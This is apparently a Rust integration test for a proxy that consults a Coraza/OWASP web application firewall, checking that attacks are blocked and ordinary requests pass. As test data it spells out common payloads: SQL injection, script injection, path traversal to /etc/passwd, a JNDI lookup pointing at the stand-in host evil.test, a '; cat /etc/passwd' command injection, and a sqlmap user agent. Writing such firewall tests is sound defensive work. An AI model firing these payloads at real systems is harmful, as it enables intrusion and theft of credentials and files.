//! A web application firewall beside the proxy, as `examples/waf.yaml` has it: Coraza and the OWASP Core Rule Set, asked by `ext_authz`.

use std::net::SocketAddr;

use super::harness::http2::Client;
use super::harness::origin::ok;
use super::harness::services::Firewall;
use super::harness::{Message, Origin, Peer, Setup};
use super::http3::{Site, site};

const CLEAR: &str = "clear: { bind: \"127.0.0.1:0\" }";
/// Attacks in the path with its query.
const ATTACKS: [&str; 4] = [
    "/?id=1%27%20OR%20%271%27=%271",
    "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?file=../../../etc/passwd",
    "/?a=$%7Bjndi:ldap://evil.test/a%7D",
];

fn start(origin: &Origin, firewall: SocketAddr) -> Site {
    let filter =
        "ext_authz: { cluster: firewall, timeout: 20s, failure_status: 503, body_max: 1MiB, body_as_bytes: true }";
    let setup = Setup::to(origin)
        .route(format!("filters: [{{ {filter} }}]"))
        .cluster_more(format!("firewall: {{ endpoints: [\"{firewall}\"], http_versions: [h2] }}"))
        .listener_more(CLEAR);
    site(setup, 1)
}

fn post(peer: &mut Peer, content_type: &str, body: &str) -> Message {
    let head = format!(
        "POST /form HTTP/1.1\r\nHost: shop.example\r\nAccept: */*\r\nUser-Agent: test\r\nContent-Type: {content_type}\r\n"
    );
    peer.ask(format!("{head}Content-Length: {}\r\n\r\n{body}", body.len()))
}

fn get(peer: &mut Peer, path: &str) -> Message {
    peer.ask(format!("GET {path} HTTP/1.1\r\nHost: shop.example\r\nAccept: */*\r\nUser-Agent: test\r\n\r\n"))
}

#[test]
fn attacks_in_paths_heads_and_bodies_are_rejected_over_every_version_and_others_pass() {
    let (origin, firewall) = (Origin::answering(|request| ok(&request.text())), Firewall::start(&[]));
    let site = start(&origin, firewall.address);
    let clear = site.product.address("clear");
    let (mut first, mut second, mut third) = (Peer::connect(clear), Client::connect(clear), site.connect());
    assert_eq!(get(&mut first, "/shop?page=2&sort=price").status(), 200);
    assert_eq!(second.get("/shop?page=2").status, 200);
    assert_eq!(third.get("/shop?page=2").status, 200);
    for attack in ATTACKS {
        let rejected = get(&mut first, attack);
        assert_eq!((rejected.status(), rejected.text().as_str()), (403, "The request was rejected.\n"), "{attack}");
        assert_eq!(second.get(attack).status, 403, "{attack}");
        assert_eq!(third.get(attack).status, 403, "{attack}");
    }
    let form = "application/x-www-form-urlencoded";
    let comment = post(&mut first, form, "name=ann&comment=two+pears,+please");
    assert_eq!((comment.status(), comment.text().as_str()), (200, "name=ann&comment=two+pears,+please"));
    assert_eq!(post(&mut first, form, "name=1' UNION SELECT password FROM users-- -").status(), 403);
    assert_eq!(post(&mut first, "application/json", "{\"name\":\"; cat /etc/passwd\"}").status(), 403);
    assert_eq!(post(&mut first, "application/json", "{\"name\":\"ann\"}").status(), 200);
    let scanner = "GET / HTTP/1.1\r\nHost: shop.example\r\nAccept: */*\r\nUser-Agent: sqlmap/1.0\r\n\r\n";
    assert_eq!(first.ask(scanner).status(), 403);
    assert!(origin.requests().iter().all(|request| request.field("user-agent") != Some("sqlmap/1.0")));
}

#[test]
fn the_firewall_only_observes_where_told_to_and_no_request_passes_without_it() {
    let (origin, mut firewall) = (Origin::saying("fine"), Firewall::start(&["-observe"]));
    let site = start(&origin, firewall.address);
    let mut peer = Peer::connect(site.product.address("clear"));
    for attack in ATTACKS {
        assert_eq!(get(&mut peer, attack).status(), 200, "{attack}");
    }
    firewall.kill();
    assert_eq!(get(&mut peer, "/shop").status(), 503);
}
